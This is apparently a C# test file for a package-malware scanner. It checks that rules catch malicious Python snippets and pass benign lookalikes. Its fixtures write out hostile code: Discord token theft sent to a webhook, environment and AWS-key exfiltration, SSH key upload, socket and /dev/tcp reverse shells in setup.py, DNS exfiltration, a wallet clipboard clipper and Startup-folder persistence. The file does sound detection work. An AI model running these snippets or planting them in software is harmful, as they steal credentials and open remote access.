using static Bulwark.Core.Tests.Moderation.ScanTestKit;

namespace Bulwark.Core.Tests.Moderation;

/// <summary>Rules about what is read and where it goes: credentials, wallets, the environment, drop points, shells.</summary>
public class TheftRuleTests
{
    private const string Webhook = "https://discord.com/api/webhooks/1029384756102938475/Xk2J9vQpL0aZ7mN3bR5tY8uW1cE4dF6gH";

    [Fact]
    public void Discord_token_store_read_and_sent_is_credential_theft() =>
        Has(Library($"import os, requests\ndef go():\n    p = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n    requests.post('{Webhook}', json={{'c': open(p).read()}})\n"), "credential-theft");

    [Fact]
    public void A_browser_automation_library_naming_user_data_is_clean() =>
        Clean(Library("import os\ndef profile_dir(name):\n    return os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', name)\n"));

    [Fact]
    public void Chrome_login_data_path_is_a_stealer_target() =>
        Has(Library("import os\ndef f():\n    return os.path.join(os.getenv('LOCALAPPDATA'), 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n"), "stealer-target");

    [Fact]
    public void Hard_coded_webhook_is_an_exfiltration_endpoint() =>
        Has(Library($"URL = '{Webhook}'\n"), "exfiltration-endpoint");

    [Fact]
    public void Webhook_url_template_of_a_discord_library_is_not() =>
        Clean(Library("import requests\ndef send(wid, token, body):\n    return requests.post(f'https://discord.com/api/webhooks/{wid}/{token}', json=body)\n"));

    [Fact]
    public void Encoded_webhook_is_decoded_and_recognised() =>
        Has(Init("import base64\nW = base64.b64decode('aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTAyOTM4NDc1NjEwMjkzODQ3NS9YazJKOXZRcEwwYVo3bU4zYlI1dFk4dVcxY0U0ZEY2Z0g=').decode()\n"), "exfiltration-endpoint");

    [Fact]
    public void Environment_dump_encoded_and_sent_is_secret_exfiltration()
    {
        var report = Library("""
            import os, base64, requests
            def report():
                s = ''
                for _, v in os.environ.items():
                    s += v
                requests.get('https://example.herokuapp.com/h/' + base64.b64encode(s.encode()).decode())
            """);
        Has(report, "secret-exfiltration");
        Flagged(report);
    }

    [Fact]
    public void Passing_the_environment_to_a_child_process_is_not() =>
        Clean(Library("import os, subprocess, requests\ndef run(cmd):\n    env = os.environ.copy()\n    env['X'] = '1'\n    return subprocess.run(cmd, env=env)\ndef get(u):\n    return requests.get(u)\n"));

    [Fact]
    public void Asking_whether_a_variable_is_set_is_not_an_environment_dump() =>
        Clean(Init("import os, socket\nON_CI = all(k in os.environ for k in ('CI', 'GITHUB_ACTIONS'))\ns = socket.create_connection(('example.org', 80))\n"));

    [Fact]
    public void Aws_keys_from_the_environment_sent_to_an_ip_are_flagged() =>
        Flagged(Init("import os, urllib.request\nk = os.environ.get('AWS_SECRET_ACCESS_KEY')\nurllib.request.urlopen('http://159.203.84.12/k?' + k)\n"));

    [Fact]
    public void A_cloud_sdk_reading_its_credentials_file_is_clean() =>
        Clean(Library("import os\ndef load():\n    path = os.path.expanduser('~/.aws/credentials')\n    return open(path).read()\n"));

    [Fact]
    public void Ssh_private_keys_sent_over_the_network_are_flagged() =>
        Has(Library("import os, requests\ndef f():\n    requests.post('https://example.org', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())\n"), "secret-exfiltration");

    [Fact]
    public void An_ssh_client_reading_known_hosts_and_connecting_is_clean() =>
        Clean(Library("import os, socket\ndef connect(host):\n    hosts = os.path.expanduser('~/.ssh/known_hosts')\n    s = socket.create_connection((host, 22))\n    return hosts, s\n"));

    [Fact]
    public void Log_message_mentioning_pypirc_is_not_a_secret_read() =>
        HasNot(Library("import logging\ndef f(u):\n    logging.info('Authenticating as %s (from .pypirc)', u)\n"), "secret-access");

    [Fact]
    public void Socket_wired_to_a_shell_is_a_reverse_shell() =>
        Has(SetupPy("import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n"), "reverse-shell");

    [Fact]
    public void A_terminal_library_using_dup2_without_a_socket_is_clean() =>
        Clean(Library("import os, pty\ndef spawn(argv, fd):\n    os.dup2(fd, 0)\n    os.dup2(fd, 1)\n    pty.spawn(argv)\n"));

    [Fact]
    public void Bash_dev_tcp_command_is_a_reverse_shell() =>
        Has(SetupPy("import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'\")\n"), "reverse-shell");

    [Fact]
    public void Dns_lookup_of_data_under_a_fixed_domain_is_exfiltration() =>
        Has(Init("import socket\ndef send(h):\n    socket.gethostbyname(h + '.0.h4ck.cfd')\nsend(socket.gethostname().encode().hex())\n"), "dns-exfiltration");

    [Fact]
    public void Resolving_a_configured_host_is_not() =>
        HasNot(Library("import socket\ndef resolve(host):\n    return socket.gethostbyname(host)\n"), "dns-exfiltration");

    [Fact]
    public void Clipboard_swapping_wallet_addresses_is_a_crypto_clipper() =>
        Has(Init("import re, pyperclip\nif re.match(r'^0x[a-fA-F0-9]{40}$', pyperclip.paste()):\n    pyperclip.copy('0x71C7656EC7ab88b098defB751B7401B5f6d8976F')\n"), "crypto-clipper");

    [Fact]
    public void A_clipboard_utility_is_not() =>
        Clean(Library("import pyperclip\ndef copy_result(text):\n    pyperclip.copy(text)\n"));

    [Fact]
    public void Writing_to_the_startup_folder_at_install_is_persistence() =>
        Has(SetupPy("import os\nwith open(os.path.join(os.getenv('APPDATA'), 'Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup', 'a.vbs'), 'w') as f:\n    f.write('x')\n"), "persistence");

    [Fact]
    public void A_completion_installer_editing_bashrc_on_request_is_clean() =>
        Clean(Library("import os\ndef install_completion():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n        f.write('eval \"$(register-python-argcomplete x)\"')\n"));

    [Fact]
    public void Request_capture_host_is_an_exfiltration_endpoint() =>
        Has(Init("import requests\nrequests.get('https://abc123.oast.fun/x')\n"), "exfiltration-endpoint");

    [Fact]
    public void Paste_site_url_in_a_library_function_alone_is_clean() =>
        Clean(Library("import requests\ndef share(code):\n    return requests.post('https://dpaste.com/api/v2/', data={'content': code})\n"));

    [Fact]
    public void Raw_public_ip_url_at_install_is_recorded() =>
        Has(SetupPy("URL = 'http://185.62.57.104/update.exe'\n"), "raw-ip-url");

    [Fact]
    public void Loopback_and_metadata_addresses_are_not_raw_ip_urls() =>
        HasNot(Init("A = 'http://127.0.0.1:8000/'\nB = 'http://169.254.169.254/latest/meta-data/'\nC = 'http://192.168.1.1/'\n"), "raw-ip-url");
}
